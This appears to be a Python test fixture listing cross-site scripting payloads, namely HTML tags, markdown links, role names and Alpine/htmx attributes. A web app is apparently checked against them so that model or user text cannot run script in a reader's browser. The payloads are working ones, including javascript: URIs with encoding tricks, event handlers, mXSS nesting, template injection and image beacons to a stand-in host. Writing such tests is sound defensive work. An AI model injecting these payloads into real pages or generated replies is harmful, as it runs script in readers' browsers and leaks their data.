"""What a model, a user or a role's author may write to run code in a reader's browser."""

ELSEWHERE = "http://192.0.2.1"  # a documentation address: a request to it can only be ours
MARK = "window.__ran=1"

HTML = (
    f"<script>{MARK};alert(1)</script>",
    f"<img src=x onerror={MARK}>",
    f'<svg onload="{MARK}"><animate onbegin="{MARK}" attributeName=x dur=1s></svg>',
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f'<iframe src="javascript:{MARK}"></iframe>',
    f'<a href="javascript:{MARK}">click</a>',
    f'<details open ontoggle="{MARK}"><summary>s</summary></details>',
    f"<style>@import '{ELSEWHERE}/a.css'; body {{ display: none }}</style>",
    f'<link rel=stylesheet href="{ELSEWHERE}/b.css">',
    f'<form action="{ELSEWHERE}"><input autofocus onfocus="{MARK}"><button>go</button></form>',
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    f'<base href="{ELSEWHERE}/">',
    f"</textarea></title></script><script>{MARK}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></table></math>",
)
MARKDOWN = (
    f"[a](javascript:{MARK})",
    f"[b](JaVaScRiPt:{MARK})",
    f"[c](java\tscript:{MARK})",
    f"[d](&#106;avascript:{MARK})",
    "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[f](vbscript:{MARK})",
    f"<javascript:{MARK}>",
    f"[g]: javascript:{MARK}\n\n[g]",
    f"![pixel]({ELSEWHERE}/pixel.png?what=was+read)",
    f'![x](x "onerror={MARK}")',
    f"![y]: {ELSEWHERE}/y.png\n\n![y]",
    "[h](//192.0.2.1/protocol-relative)",
    f"```html\n<script>{MARK}</script>\n```",
    f"| <img src=x onerror={MARK}> | {{{{constructor.constructor('{MARK}')()}}}} |\n"
    "|-|-|\n| 1 | 2 |",
)
REPLY = "\n\n".join((*HTML, *MARKDOWN, "Answer: <img src=x onerror=window.__ran=1> 42"))
ROLE_NAMES = (
    f"<img src=x onerror={MARK}>",
    f"<script>{MARK}</script>",
    f"<svg/onload={MARK}>",
    f"![p]({ELSEWHERE}/p.png)",
)
ALPINE = (
    f'<b data-hostile x-data x-init="{MARK}">x-init</b>',
    f'<b data-hostile x-data="{{}}" @click="{MARK}" x-on:mouseover="{MARK}">click</b>',
    f'" data-hostile x-init="{MARK}" x-text="{MARK}" a=\'',
    f"' data-hostile x-init='{MARK}' :class='{MARK}",
    f"'+({MARK})+'",
    f"`${{{MARK}}}` {{{{{MARK}}}}} {{{{constructor.constructor('{MARK}')()}}}}",
    f'<b data-hostile hx-get="{ELSEWHERE}/h" hx-trigger="load" hx-on:click="{MARK}">htmx</b>',
    "{% load static %}{{ request.user }}",
)
"""For pages whose script evaluates attributes: the admin's."""
